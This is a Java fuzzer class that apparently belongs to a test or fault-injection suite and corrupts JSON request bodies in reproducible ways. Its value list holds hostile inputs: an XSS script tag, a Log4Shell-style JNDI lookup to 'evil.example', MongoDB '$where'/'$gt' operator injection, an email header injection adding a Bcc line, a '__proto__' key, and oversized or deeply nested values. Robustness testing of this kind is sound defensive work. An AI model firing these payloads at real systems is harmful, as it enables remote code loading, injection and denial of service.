package org.cosell.faults;

import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import tools.jackson.databind.json.JsonMapper;

/**
 * Turns a valid JSON body into a broken one, reproducibly from a seed: values of the wrong type,
 * size or shape, fields removed or added (system fields and MongoDB operators among them), the
 * whole document replaced, the bytes truncated or corrupted, or a content type that is not JSON.
 */
final class BodyFuzzer {

    /** A fuzzed request body and how it was made. */
    record Fuzzed(byte[] body, String contentType, String mutation) {
    }

    private static final List<String> FIELD_NAMES = List.of("stage", "partnerId", "id", "_id", "$where", "__proto__",
            "constructor", "version", "a.b", "", "\u0000", "name ", "NAME", "estimatedValue.amount", "x".repeat(300));

    private final Random random;
    private final JsonMapper json = JsonMapper.builder().build();

    BodyFuzzer(long seed) {
        this.random = new Random(seed);
    }

    synchronized Fuzzed fuzz(String validBody, String contentType) {
        Object document = json.readValue(validBody, Object.class);
        int choice = random.nextInt(100);
        if (choice < 30) {
            return structured(replace(document), contentType, "replace a value");
        }
        if (choice < 40) {
            return structured(remove(document), contentType, "remove a field");
        }
        if (choice < 50) {
            return structured(add(document), contentType, "add a field");
        }
        if (choice < 60) {
            return structured(replace(add(remove(replace(document)))), contentType, "several changes");
        }
        if (choice < 65) {
            return structured(value(), contentType, "another document");
        }
        if (choice < 75) {
            byte[] bytes = json.writeValueAsBytes(document);
            int cut = random.nextInt(Math.max(1, bytes.length));
            return new Fuzzed(Arrays.copyOf(bytes, cut), contentType, "truncated");
        }
        if (choice < 85) {
            byte[] bytes = json.writeValueAsBytes(document);
            int at = random.nextInt(Math.max(1, bytes.length));
            byte[] garbage = new byte[1 + random.nextInt(8)];
            random.nextBytes(garbage);
            byte[] corrupted = new byte[bytes.length + garbage.length];
            System.arraycopy(bytes, 0, corrupted, 0, at);
            System.arraycopy(garbage, 0, corrupted, at, garbage.length);
            System.arraycopy(bytes, at, corrupted, at + garbage.length, bytes.length - at);
            return new Fuzzed(corrupted, contentType, "corrupted bytes");
        }
        if (choice < 95) {
            String raw = rawDocument(validBody);
            return new Fuzzed(raw.getBytes(StandardCharsets.UTF_8), contentType, "raw: " + abbreviate(raw));
        }
        List<String> types = List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "application/json; charset=ebcdic", "*/*");
        String type = types.get(random.nextInt(types.size()));
        return new Fuzzed(validBody.getBytes(StandardCharsets.UTF_8), type, "Content-Type: " + type);
    }

    /** Serialized as JSON; a document nested deeper than Jackson writes becomes raw deep nesting instead. */
    private Fuzzed structured(Object document, String contentType, String mutation) {
        try {
            return new Fuzzed(json.writeValueAsBytes(document), contentType, mutation);
        } catch (RuntimeException tooDeep) {
            String raw = "[".repeat(2_000) + "]".repeat(2_000);
            return new Fuzzed(raw.getBytes(StandardCharsets.UTF_8), contentType, mutation + ", too deep to write: raw nesting");
        }
    }

    private Object replace(Object document) {
        List<Slot> slots = slots(document);
        if (slots.isEmpty()) {
            return value();
        }
        slots.get(random.nextInt(slots.size())).set(value());
        return document;
    }

    @SuppressWarnings("unchecked")
    private Object remove(Object document) {
        List<Slot> slots = slots(document).stream().filter(slot -> slot.container() instanceof Map).toList();
        if (!slots.isEmpty()) {
            Slot slot = slots.get(random.nextInt(slots.size()));
            ((Map<String, Object>) slot.container()).remove(slot.key());
        }
        return document;
    }

    @SuppressWarnings("unchecked")
    private Object add(Object document) {
        List<Object> maps = new ArrayList<>();
        if (document instanceof Map) {
            maps.add(document);
        }
        slots(document).stream().map(Slot::value).filter(value -> value instanceof Map).forEach(maps::add);
        if (!maps.isEmpty()) {
            Map<String, Object> map = (Map<String, Object>) maps.get(random.nextInt(maps.size()));
            map.put(FIELD_NAMES.get(random.nextInt(FIELD_NAMES.size())), value());
        }
        return document;
    }

    /** Every value inside the document, with the container and key that hold it. */
    @SuppressWarnings("unchecked")
    private static List<Slot> slots(Object node) {
        List<Slot> slots = new ArrayList<>();
        if (node instanceof Map) {
            for (Map.Entry<String, Object> entry : ((Map<String, Object>) node).entrySet()) {
                slots.add(new Slot(node, entry.getKey(), -1, entry.getValue()));
                slots.addAll(slots(entry.getValue()));
            }
        } else if (node instanceof List) {
            List<Object> list = (List<Object>) node;
            for (int i = 0; i < list.size(); i++) {
                slots.add(new Slot(node, null, i, list.get(i)));
                slots.addAll(slots(list.get(i)));
            }
        }
        return slots;
    }

    private record Slot(Object container, String key, int index, Object value) {

        @SuppressWarnings("unchecked")
        void set(Object replacement) {
            if (container instanceof Map) {
                ((Map<String, Object>) container).put(key, replacement);
            } else {
                ((List<Object>) container).set(index, replacement);
            }
        }
    }

    private Object value() {
        switch (random.nextInt(32)) {
            case 0: return null;
            case 1: return true;
            case 2: return 0;
            case 3: return -1;
            case 4: return Long.MAX_VALUE;
            case 5: return 1e308;
            case 6: return new BigInteger("9".repeat(400));
            case 7: return "";
            case 8: return "   ";
            case 9: return "\u0000\u0007\u001b";
            case 10: return "😀".repeat(60);
            case 11: return "<script>alert(1)</script>";
            case 12: return "x".repeat(6_000);
            case 13: return random.nextInt(20) == 0 ? "y".repeat(200_000) : "y".repeat(201);
            case 14: return "2027-02-30";
            case 15: return "+999999999-12-31";
            case 16: return "NaN";
            case 17: return "-0.001";
            case 18: return "1e400";
            case 19: return new LinkedHashMap<>(Map.of("$gt", ""));
            case 20: return new LinkedHashMap<>(Map.of("$where", "sleep(1000)"));
            case 21: return new ArrayList<>();
            case 22: return new LinkedHashMap<>();
            case 23: return nested(random.nextInt(2) == 0 ? 40 : 200);
            case 24: return numbers(1 + random.nextInt(2_000));
            case 25: return "a@b";
            case 26: return "a@b.example\r\nBcc: victim@evil.example";
            case 27: return "${jndi:ldap://evil.example/a}";
            case 28: return "2027-12-31T25:61:00Z";
            case 29: return "WON";
            case 30: return "\uD800";
            default: return new ArrayList<>(List.of(new LinkedHashMap<>(Map.of("name", "x")), 5, "z"));
        }
    }

    private static Object nested(int depth) {
        Object node = "bottom";
        for (int i = 0; i < depth; i++) {
            if (i % 2 == 0) {
                List<Object> list = new ArrayList<>();
                list.add(node);
                node = list;
            } else {
                Map<String, Object> map = new LinkedHashMap<>();
                map.put("n", node);
                node = map;
            }
        }
        return node;
    }

    private static List<Object> numbers(int count) {
        List<Object> numbers = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            numbers.add(i);
        }
        return numbers;
    }

    private String rawDocument(String validBody) {
        List<String> raws = List.of("", " ", "null", "true", "0", "\"text\"", "[]", "{}", "{", "}", "{\"a\":",
                "{\"name\":\"a\",\"name\":\"b\"}", "\uFEFF" + validBody, "/* comment */" + validBody, validBody + "garbage",
                validBody + validBody, "{\"estimatedValue\":NaN}", "{\"n\":1e99999}", "[".repeat(5_000) + "]".repeat(5_000),
                "{\"a\":\"\\ud800\"}", "{'single':'quotes'}", "{\"a\":01}", "<xml/>", "name=x&stage=WON");
        return raws.get(random.nextInt(raws.size()));
    }

    private static String abbreviate(String raw) {
        String oneLine = raw.replaceAll("\\s+", " ");
        return oneLine.length() > 40 ? oneLine.substring(0, 40) + "..." : oneLine;
    }
}
